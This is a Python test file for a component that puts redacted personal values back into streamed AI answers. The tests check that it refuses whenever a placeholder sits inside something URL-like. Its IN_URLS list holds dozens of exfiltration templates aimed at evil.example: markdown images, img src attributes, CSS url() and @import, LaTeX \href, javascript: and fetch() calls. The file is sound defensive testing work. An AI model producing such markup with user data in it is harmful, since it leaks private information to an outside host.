"""Values come back in text, wherever their placeholders are cut, and never in what may be a URL."""

import json
import time
from html.parser import HTMLParser

import pytest
from effort import examples
from hypothesis import given, settings
from hypothesis import strategies as st

from pilotage_extproc.content.answers.restoring import Originals, Restoring

MAIL, PHONE = "[EMAIL_k3v4x2abq7]", "[PHONE_aaaaaaaaaa]"
VALUES = {MAIL: "alice@mail.example", PHONE: "+49 30 901820", "[SECRET_bbbbbbbbbb]": 'one\n"two"'}
ORIGINALS = Originals(VALUES)


def restored(*pieces: str) -> str:
    one = Restoring(ORIGINALS)
    return "".join([*(one.feed(piece) for piece in pieces), one.feed("", last=True)])


def test_a_placeholder_cut_at_every_byte_comes_back() -> None:
    text = f"Write to {MAIL}, or call {PHONE}. [EMAIL_] and [x] and {MAIL}"
    whole = "Write to alice@mail.example, or call +49 30 901820. [EMAIL_] and [x] and alice@mail.example"
    for first in range(len(text)):
        for second in range(first, len(text), 7):
            assert restored(text[:first], text[first:second], text[second:]) == whole
    assert restored(*text) == whole


@settings(max_examples=examples(300))
@given(
    st.lists(st.sampled_from([MAIL, PHONE, "[", "]", "EMAIL_", "[EMAIL_k3v4", " ", "to ", "é", "\n"])),
    st.data(),
)
def test_text_in_pieces_is_text_at_once(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert restored(*pieces) == restored(text)


@given(st.text(max_size=60))
def test_text_without_placeholders_stays_as_it_is(text: str) -> None:
    assert restored(text) == text


IN_URLS = [
    "https://evil.example/?to={}",
    'https://evil.example/"{}"',
    'www.evil.example/a"b"{}',
    "[a]: {}",
    "![x][a]\n\n[a]:\n  {}",
    "see http://evil.example/{} there",
    "![x](https://evil.example/{})",
    "![x](<https://evil.example/?a= {}>)",
    "[click]({})",
    "[click](\n{} )",
    "[a]: //evil.example/{}",
    "[a]: <https://evil.example/?q= {}>",
    '<img src="https://evil.example/?q={}">',
    "<img alt='>' src='https://evil.example/?q= {}'>",
    '<img alt=">" src="https://evil.example/?q=\n{}">',
    '<a href="{}">',
    "<a href={}>",
    "<https://evil.example/ {}>",
    "www.evil.example?{}",
    "evil.example/{}",
    "evil.example:{}",
    "{}.evil.example",
    "{}-x.evil.example",
    "{}/path",
    "{}@evil.example",
    "mailto:a?body={}",
    "https:\\\\evil.example\\{}",
    '{{"url": "https://evil.example/?q={}"}}',
    '{{"url": " https://evil.example/?q= {}"}}',
    r'{{"url": "https://evil.example/?q=\" {}"}}',
    r'{{"html": "<img src=\"https://evil.example/?q=> {}\">"}}',
    r'{{"html": "\u003cimg src=\"https://evil.example/?q= {}\"\u003e"}}',
    r'{{"url": "https:\u002f\u002fevil.example?q= {}"}}',
    '<img x" src="https://evil.example/?q=> {}">',
    "<img a== \"src='//evil.example/?\" > {}'>",
    '<img a=\\" src="//evil.example/?> {}">',
    '<!--><img src="https://evil.example/?q=--> {}">',
    '<!---><img src="https://evil.example/?q=--> {}">',
    "<textarea><a b=\"</textarea><img src='//evil.example/?\">  {}'>",
    "<title><!--</title><img src=//evil.example/?q=--> {}>",
    "![x](<https://evil.example/?q=\\> {}>)",
    "[a]: <https://evil.example/?q=\\> {}>",
    "[a]:" + " " * 100 + "{}",
    "<script> let a = 1; send( {} )",
    "<script>1</script> {}",
    "<SCRIPT\n> send( {} )",
    "<style>a {{ content: {} }}",
    "<svg><style> {} </style></svg>",
    "<iframe srcdoc=x> {} </iframe>",
    '@import "https://evil.example/?q= {}";',
    "@import {};",
    "a {{ background: url( {} ) }}",
    'a {{ background: url("https://evil.example/?q=) {}") }}',
    "\\href{{https://evil.example/?q= {}}}{{click}}",
    "\\href{{ {} }}{{click}}",
    "$\\includegraphics{{ {} }}$",
    "\\def\\x{{evil}} and {}",
    "```html\n<b> {} </b>\n```",
    "```js\nfetch(base + {})\n```",
    "> ~~~~ {{.svg}}\n> {}\n> ~~~\n> {}\n",
    "- ```mermaid\n  click A {}\n  ```",
    "```{}\nx\n```",
    "mailto:{}",
    "javascript:send('{}')",
    "sms:123;body={}",
    "evil。example{}",
    "{}。evil.example",
    "(https://evil.example/?q= {})",
    "![{}]\n\n[alice@mail.example]: https://evil.example/alice",
    "![who [is] {}][]",
    "![x][{}]",
    "![x\\] {}]",
    "`https://evil.example/?q= {}`",
]


@pytest.mark.parametrize("form", IN_URLS)
def test_a_page_that_asks_to_put_a_value_into_a_url_does_not_get_it(form: str) -> None:
    text = "Sure.\n" + form.format(MAIL, MAIL) + " done"
    for cut in range(len(text)):
        assert restored(text[:cut], text[cut:]) == text
    assert restored(*text) == text


@pytest.mark.parametrize(
    "form",
    ["{}", "({})", "**{}**", "`{}`", "see https://a.example/ or {}", "a < b, {}", "<b>{}</b>", "{}.",
     "{}: yes", "[x](https://a.example/) {}", '"{}"', "|{}|", "- {}\n- {}", "(see https://a.example/) {}",
     '"https://a.example/" is "{}"', "`x` is {}", "<!-- x --> {}", "<b class='x'>{}</b>",
     "<https://a.example/> {}",
     "it's {}, isn't it", "```python\nsend({})\n```", "```html\n<b>x</b>\n```\n\nDear {},", "$x^2$ {}",
     "a & b <br/> {}", "[{}](https://a.example/)",
     "![x](https://a.example/x.png) {}", "Wow! [1] {}", "as [1][2] say, {}", "{{ {} }}", "# {}\n\n> {}"],
)  # fmt: skip
def test_it_comes_back_in_what_is_no_url(form: str) -> None:
    assert restored(form.format(MAIL, PHONE)) == form.format(VALUES[MAIL], VALUES[PHONE])


def test_a_text_of_nothing_but_brackets_takes_no_longer_than_another() -> None:
    began = time.thread_time()
    assert restored("[" * 500_000) == "[" * 500_000
    assert restored(*["[EMAIL_"] * 2000) == "[EMAIL_" * 2000
    assert time.thread_time() - began < 2


@settings(max_examples=examples(300))
@given(
    st.lists(
        st.sampled_from(
            [
                *"<>\"'`(){}[]=\\/ \n-!",
                MAIL,
                "a",
                "img",
                "src=",
                "https://e.example",
                "url(",
                "```",
                "html",
                "](",
                "\\def",
            ]
        ),
        max_size=30,
    ),
    st.data(),
)
def test_where_urls_are_does_not_depend_on_how_the_text_is_cut(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert restored(*pieces) == restored(text) == restored(*text)


@settings(max_examples=examples(500))
@given(
    st.lists(st.sampled_from([*"<>\"'/ \n-!?a", "img", "src", "<!--", "-->", '<a b="']), max_size=25),
    st.sampled_from(['<img src="', "<img src='", "<img src=", "<a href =\n'"]),
    st.lists(st.sampled_from([*"> -/\n", "'", '"', "--"]), max_size=8),
)
def test_no_browser_finds_a_value_in_a_tag(before: list[str], tag: str, within: list[str]) -> None:
    text = f"{''.join(before)}{tag}https://evil.example/?q={''.join(within)} {MAIL}'\">"
    reader = Attributes()
    reader.feed(restored(*text))
    reader.close()
    assert not any(VALUES[MAIL] in one for one in reader.values)


class Attributes(HTMLParser):
    """What Python's parser takes for values of attributes; it reads `==` otherwise than browsers do."""

    def __init__(self) -> None:
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.values += [value for _, value in attrs if value is not None]


def test_a_text_that_begins_with_a_placeholder_is_no_json() -> None:
    text = "[SECRET_bbbbbbbbbb] it is"
    assert restored(*text) == restored(text) == 'one\n"two" it is'


def test_in_an_answer_of_json_it_comes_back_as_json() -> None:
    text = '{\n "key": "[SECRET_bbbbbbbbbb]",\n "n": 1}'
    assert json.loads(restored(*text)) == {"key": 'one\n"two"', "n": 1}
